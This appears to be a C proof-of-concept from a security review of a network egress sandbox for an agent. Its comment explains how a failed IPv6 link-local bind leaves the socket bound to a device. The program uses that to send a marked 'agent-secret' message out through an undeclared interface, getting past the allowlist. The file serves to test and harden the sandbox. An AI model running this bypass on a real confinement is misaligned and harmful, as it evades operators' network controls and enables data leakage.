/* ha13-bindfail: hostile review h-attack13. The output interface without
 * any trapped option: bind() (never trapped) of an IPv6 socket to a
 * link-local address with a scope id writes the scope id into
 * sk_bound_dev_if before it looks the address up (__inet6_bind: "Override
 * any existing binding, if another one is supplied by user"), and a failed
 * bind (EADDRNOTAVAIL: fe80::dead is nobody's) does not put it back. The
 * socket is left unbound but bound to the device: SO_BINDTODEVICE by
 * another name, no capability. A send to the declared IPv4 address as
 * ::ffff:a.b.c.d (judged as IPv4, routed by udp_sendmsg / tcp_v4_connect
 * with that oif) then leaves by that link, where the kernel takes it for
 * on-link (as in ha12-oif).
 *
 *   ha13-bindfail MODE DEST:PORT IFNAME
 *     udp        bind(fe80::dead%IFNAME) (fails), sendto(::ffff:DEST)
 *     tcp        the same on a TCP socket, connect(::ffff:DEST), write()
 *     mcast      UDP: bind(ff02::1%IFNAME) succeeds (no local address check
 *                for multicast); shows the device kept either way
 *     udpplain   control: no bind, sendto(::ffff:DEST)
 *     llconnect  connect(fe80::dead%IFNAME, port 9999): a DECLARED link-local
 *                destination (the run adds --allow [fe80::dead]:9999); the
 *                scope id stays in sk_bound_dev_if after the connect
 *                (__ip6_datagram_connect), so the later sendto(::ffff:DEST)
 *                to the other declared address leaves by IFNAME too
 *                ("Known limits" admits the link-local address on every
 *                link, not every declared address on the link-local's link)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6}, ll = {.sin6_family = AF_INET6};
	char msg[64], host[64], dev[IFNAMSIZ + 1] = "", *colon;
	const char *mode;
	socklen_t dl = sizeof(dev) - 1;
	int s, tcp;
	long rc;

	if (argc != 4) {
		fprintf(stderr, "usage: ha13-bindfail MODE DEST:PORT IFNAME\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
	colon = strrchr(host, ':');
	*colon = '\0';
	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
		return 2;
	tcp = strcmp(mode, "tcp") == 0;
	s = socket(AF_INET6, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
	if (strcmp(mode, "llconnect") == 0) {
		inet_pton(AF_INET6, "fe80::dead", &ll.sin6_addr);
		ll.sin6_port = htons(9999);
		ll.sin6_scope_id = if_nametoindex(argv[3]);
		rc = connect(s, (struct sockaddr *)&ll, sizeof(ll));
		printf("agent: connect(fe80::dead%%%s) = %ld (%s)\n", argv[3], rc,
		       rc < 0 ? strerror(errno) : "ok");
	} else if (strcmp(mode, "udpplain") != 0) {
		inet_pton(AF_INET6, strcmp(mode, "mcast") == 0 ? "ff02::1" : "fe80::dead",
			  &ll.sin6_addr);
		ll.sin6_scope_id = if_nametoindex(argv[3]);
		rc = bind(s, (struct sockaddr *)&ll, sizeof(ll));
		printf("agent: bind(%s%%%s) = %ld (%s)\n",
		       strcmp(mode, "mcast") == 0 ? "ff02::1" : "fe80::dead", argv[3], rc,
		       rc < 0 ? strerror(errno) : "ok");
	}
	getsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
	printf("agent: socket now bound to device '%s'\n", dev);
	snprintf(msg, sizeof(msg), "agent-secret via bind-%s", mode);
	if (tcp) {
		rc = connect(s, (struct sockaddr *)&dst, sizeof(dst));
		printf("agent: connect(%s) = %ld (%s)\n", host, rc, rc < 0 ? strerror(errno) : "ok");
		rc = rc < 0 ? rc : write(s, msg, strlen(msg));
		usleep(300 * 1000);
	} else {
		rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&dst, sizeof(dst));
	}
	printf("agent uid %d %s to %s: %ld (%s)\n", getuid(), mode, host, rc,
	       rc < 0 ? strerror(errno) : "ok");
	close(s);
	return 0;
}
